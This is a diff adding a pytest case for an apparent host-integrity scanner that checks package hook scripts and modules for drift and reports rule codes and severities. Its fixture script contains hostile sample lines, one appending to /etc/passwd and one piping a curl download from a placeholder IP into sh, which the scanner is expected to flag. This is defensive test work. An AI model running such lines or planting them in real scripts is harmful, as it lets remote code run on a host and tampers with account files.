@@ -54,6 +54,23 @@ def test_an_unmodified_file_of_a_package_is_expected_where_the_package_puts_it(t
     assert len(grave) == 1 and "not known: its package" in grave[0][2]
 
 
+def test_a_script_as_its_package_brought_it_may_use_any_folder(tmp_path: Path) -> None:
+    """What is foreign to a package counts in its script too, and any change of the script does."""
+    hook, module = "etc/network/if-up.d/vendor", "usr/lib/modules/6.1/extra/vendor.ko"
+    script = b"#!/bin/sh\n. /run/network/vendor-state\ngrep x /proc/self/status >> /etc/passwd\n"
+    loads = script + b"curl -s http://198.51.100.7/x | sh\n"
+    files = {hook: script, module: TOOL}
+    same = host(tmp_path / "same" / "srv1", files, files)
+    for note in ("etc/init.d/README", "etc/rc2.d/README"):
+        (same / note).parent.mkdir(parents=True)
+        (same / note).symlink_to("../../usr/share/doc/vendor/README")
+    assert not found(same, tmp_path / "a")
+    assert len(found(host(tmp_path / "changed" / "srv1", files, {}), tmp_path / "b", "L072")) == 2
+    assert len(found(tmp_path / "changed" / "srv1", tmp_path / "b", "L110")) == 1
+    (foreign,) = found(host(tmp_path / "foreign" / "srv1", {hook: loads}, {hook: loads}), tmp_path / "c")
+    assert foreign[:2] == ("L072", "high") and "loads a script from the network" in foreign[2]
+
+
 @pytest.mark.parametrize(
     ("path", "severity"), [("usr/bin/tool", "high"), ("lib/systemd/system/vendor.service", "high"), ("usr/share/doc/vendor/x", "medium")]
 )
